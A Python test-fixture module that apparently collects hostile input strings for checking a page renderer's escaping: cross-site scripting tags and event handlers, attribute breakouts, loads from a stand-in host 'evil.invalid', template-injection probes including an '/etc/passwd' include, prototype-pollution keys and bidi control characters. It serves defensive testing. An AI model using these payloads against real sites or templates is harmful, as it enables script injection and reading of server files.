"""Strings that run, load or break something where a page takes text for markup, script, template or address.

Those that would run a script call ``OWNED``: a test asks afterwards whether anything has. Those that would load
something name a host that does not exist: a test asks whether it was asked for.
"""

from __future__ import annotations

OWNED = "window.__pwned=1"
ELSEWHERE = "//evil.invalid/x"

_SCRIPTS = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"<SCRIPT SRC={ELSEWHERE}.js></SCRIPT>",
    f"</title><script>{OWNED}</script>",
    f"</style><script>{OWNED}</script>",
    f"</textarea><script>{OWNED}</script>",
    f"--><script>{OWNED}</script>",
    f"<!--<script>{OWNED}//",
    "<!-- <script>",
    f"]]><script>{OWNED}</script>",
    f"<scr<script>ipt>{OWNED}</script>",
    f"<script\n>{OWNED}</script\n>",
    f"<script/x>{OWNED}</script>",
    f"<script type=module>{OWNED}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
    f"\ufeff<script>{OWNED}</script>",
    f"<\0script>{OWNED}</script>",
)
_HANDLERS = (
    f"<img src=x onerror={OWNED}>",
    f"<img/src=x/onerror={OWNED}//",
    f"<svg onload={OWNED}>",
    f"<svg><script>{OWNED}</script></svg>",
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f"<body onload={OWNED}>",
    f"<input autofocus onfocus={OWNED}>",
    f"<select autofocus onfocus={OWNED}>",
    f"<details open ontoggle={OWNED}>",
    f"<video><source onerror={OWNED}>",
    f"<audio src=x onerror={OWNED}>",
    f"<marquee onstart={OWNED}>",
    f"<xss style=animation-name:x onanimationstart={OWNED}>",
    f"<button popovertarget=x>x</button><xss popover id=x onbeforetoggle={OWNED}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={OWNED}>",
    f"<a href=x tabindex=1 onfocus={OWNED} autofocus>",
    f"<custom-element onpointerover={OWNED}>",
)
_ATTRIBUTES = (
    f'" onmouseover="{OWNED}',
    f"' onmouseover='{OWNED}",
    f'" autofocus onfocus="{OWNED}" x="',
    f'"><script>{OWNED}</script>',
    f"'><img src=x onerror={OWNED}>",
    f"` onmouseover=`{OWNED}",
    f'" style="background:url({ELSEWHERE})',
    '" id="figure-head',
    '" data-position="0',
    "><",
)
_LOADS = (
    f"<img src={ELSEWHERE}.png>",
    f"<iframe src='javascript:{OWNED}'></iframe>",
    f"<iframe srcdoc='<script>parent.{OWNED}</script>'>",
    f"<object data='data:text/html,<script>{OWNED}</script>'>",
    f"<embed src={ELSEWHERE}.swf>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><input type=submit autofocus>",
    f"<table background={ELSEWHERE}>",
    f"<portal src={ELSEWHERE}>",
    f"<template shadowrootmode=open><img src={ELSEWHERE}></template>",
    f"javascript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    f"url({ELSEWHERE})",
)
_SCRIPT_TEXT = (
    f"';{OWNED};'",
    f'";{OWNED};"',
    f"`${{{OWNED}}}`",
    f"\\';{OWNED}//",
    f"*/;{OWNED}/*",
    f"\u2028{OWNED}\u2029",
    "__proto__",
    "constructor",
    '{"__proto__":{"x":1}}',
    f"];{OWNED};[",
    "&lt;script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&quot; onmouseover=&quot;",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "@{safe}",
    "@text{safe}<b>x</b>",
    "$index{safe}",
    "$$\\unicode{x}$$",
    "\\[\\href{javascript:window.__pwned=1}{x}\\]",
    "\\(x\\)",
    "[red]x[/red]",
    "%s%n%x",
)
_LOOKS = (
    "\u202eevil\u202c",
    "\u2066\u2067x",
    "\x1b[2J\x1b]0;owned\x07",
    "שלום",
    "Z\u0335\u0321a\u0322l\u0337g\u0338o",
    "\u0301",
    "\ud83e\udd37\ud83c\udffd\u200d\u2642\ufe0f".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u200b",
    "\ufffe\uffff",
    "\0",
    "\r\n",
    "line\nbreak",
)

HOSTILE_STRINGS = (
    *_SCRIPTS, *_HANDLERS, *_ATTRIBUTES, *_LOADS, *_SCRIPT_TEXT, *_TEMPLATES, *_LOOKS,
)  # fmt: skip
